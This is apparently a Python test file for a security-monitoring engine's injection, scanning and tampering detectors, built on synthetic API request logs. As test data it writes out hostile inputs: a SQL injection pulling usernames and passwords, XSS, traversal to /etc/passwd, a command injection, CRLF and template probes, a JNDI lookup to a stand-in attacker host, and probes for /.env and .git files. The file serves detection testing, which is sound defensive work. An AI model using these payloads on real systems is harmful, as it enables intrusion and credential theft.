"""Injection, scanning and tampering on the engine: signatures on pre-selected calls, sensitive paths,
and each endpoint's learned parameter profile."""

from datetime import date, timedelta

from detect_patterns_support import at, event, insert, whole_days

from detectors.injection import InjectionDetector
from detectors.scanning import ScanningDetector
from detectors.tampering import TamperingDetector

DAY = date(2026, 3, 10)
RECORDS = "/api/v1/datasets/d1/records"


def lawful_searches(days: int = 8) -> list[list]:
    """A week of anonymous searches on one endpoint: Chinese place names, dates, page numbers, and
    free text with apostrophes and angle brackets that are not attacks."""
    texts = ["浦东新区", "O'Brien", "Xi'an 公交", "price < 500", "children's hospital", "Tom & Jerry",
             "徐汇区 学校"]
    events = []
    for d in range(days):
        day = DAY - timedelta(days=days - 1 - d)
        for n in range(60):
            events.append(event(at(day, 9 + n % 9, n), "", "d1", client_ip=f"198.51.100.{n % 30 + 1}",
                                endpoint=RECORDS, params={"q": texts[n % len(texts)], "page": n % 5 + 1,
                                                          "date": f"2026-03-{n % 28 + 1:02d}"}))
    return events


def test_one_injection_attempt_is_low_and_several_are_high(client):
    insert(client, lawful_searches(1))
    insert(client, [event(at(DAY, 22, 1), "", "d1", client_ip="203.0.113.9", endpoint=RECORDS,
                          params={"q": "1' UNION SELECT username, password FROM users--"})])
    attacks = ["<svg/onload=alert(1)>", "../../../../etc/passwd", "%0d%0aSet-Cookie: a=b",
               "; cat /etc/passwd",
               "{{7*7}}", "${jndi:ldap://evil.example/a}"]
    insert(client, [event(at(DAY, 23, n), "c9", "d1", client_ip="192.0.2.7", endpoint=RECORDS,
                          params={"q": text}) for n, text in enumerate(attacks)])
    alerts = {a.consumer_id or a.client_ip: a for a in InjectionDetector().run(client, whole_days(DAY, DAY))}
    assert set(alerts) == {"203.0.113.9", "c9"}          # the lawful searches raise nothing
    one, many = alerts["203.0.113.9"], alerts["c9"]
    assert one.severity == "low" and one.evidence["attack_classes"] == ["sqli"]
    assert one.evidence["injection_samples"][0].startswith('{"q": "1\' UNION SELECT')
    assert many.severity == "high" and many.evidence["attempts"] == 6
    assert set(many.evidence["attack_classes"]) >= {"xss", "path_traversal", "crlf", "command_injection",
                                                    "ssti"}


def test_a_traversal_in_a_refused_path_is_an_attempt(client):
    insert(client, [event(at(DAY, 3, n), "", "", client_ip="203.0.113.77", status=404,
                          endpoint=f"/static/{'../' * (n + 3)}etc/passwd") for n in range(3)])
    [alert] = InjectionDetector().run(client, whole_days(DAY, DAY))
    assert alert.client_ip == "203.0.113.77" and "path_traversal" in alert.evidence["attack_classes"]


def test_scanners_asking_for_admin_consoles_and_dotfiles_are_flagged_one_request_each(client):
    insert(client, lawful_searches(1))
    scans = {"203.0.113.1": ["/wp-login.php"], "203.0.113.2": ["/administrator/", "/admin.php"],
             "203.0.113.3": ["/.env", "/.git/config", "/index.php.bak", "/config.php~", "/backup.zip"]}
    insert(client, [event(at(DAY, 4, n), "", "", client_ip=ip, status=404, endpoint=path)
                    for ip, paths in scans.items() for n, path in enumerate(paths)])
    # A broken client asking 300 times for one withdrawn id: one refused path, not a sweep.
    insert(client, [event(at(DAY, 8 + n // 60, n % 60), "broken", "gone", status=404, rows=0,
                          endpoint="/api/v1/datasets/gone/records") for n in range(300)])
    alerts = {a.client_ip: a for a in ScanningDetector().run(client, whole_days(DAY, DAY))}
    assert set(alerts) == set(scans)
    assert alerts["203.0.113.1"].severity == "low"
    assert alerts["203.0.113.2"].severity == "medium"
    assert alerts["203.0.113.3"].severity == "high"
    assert alerts["203.0.113.3"].evidence["sensitive_paths"][0] == "/.env"


def test_a_sweep_of_refused_paths_is_scanning_but_refusals_on_many_datasets_are_not(client):
    insert(client, [event(at(DAY, 5, n), "", "", client_ip="203.0.113.50", status=404,
                          endpoint=f"/api/v{n}/internal/{n}") for n in range(12)])
    # Refused on 20 conditional datasets through one endpoint: probing's business, one path here.
    insert(client, [event(at(DAY, 6, n), "", f"dc{n}", client_ip="203.0.113.60", status=401,
                          endpoint=f"/api/v1/datasets/dc{n}/records") for n in range(20)])
    [alert] = ScanningDetector().run(client, whole_days(DAY, DAY))
    assert alert.client_ip == "203.0.113.50" and alert.evidence["refused_paths"] == 12
    assert alert.message == "alerts.scanning.sweep"


def test_calls_breaking_the_endpoints_parameter_profile_are_tampering(client):
    insert(client, lawful_searches())
    tampered = [{"page": "1 OR true"}, {"page": 2, "debug": "true"}, {"page": 3, "q": "浦东新区" * 80},
                {"q": "浦东新区", "page": "-1 order"}]
    insert(client, [event(at(DAY, 20, n), "", "d1", client_ip="203.0.113.5", endpoint=RECORDS, params=p)
                    for n, p in enumerate(tampered)])
    [alert] = TamperingDetector().run(client, whole_days(DAY, DAY, TamperingDetector.lookback))
    assert alert.client_ip == "203.0.113.5" and alert.evidence["calls"] == 4
    rules = {(r["parameter"], r["rule"]) for r in alert.evidence["broken_rules"]}
    assert rules == {("page", "shape"), ("debug", "unknown_parameter"), ("q", "length")}
    assert alert.evidence["broken_rules"][0]["endpoint"] == "/api/v1/datasets/{dataset}/records"


def test_an_endpoint_without_enough_history_has_no_profile(client):
    insert(client, lawful_searches(1))
    insert(client, [event(at(DAY, 20, n), "", "d1", client_ip="203.0.113.5", endpoint=RECORDS,
                          params={"debug": "true"}) for n in range(5)])
    assert TamperingDetector().run(client, whole_days(DAY, DAY, TamperingDetector.lookback)) == []
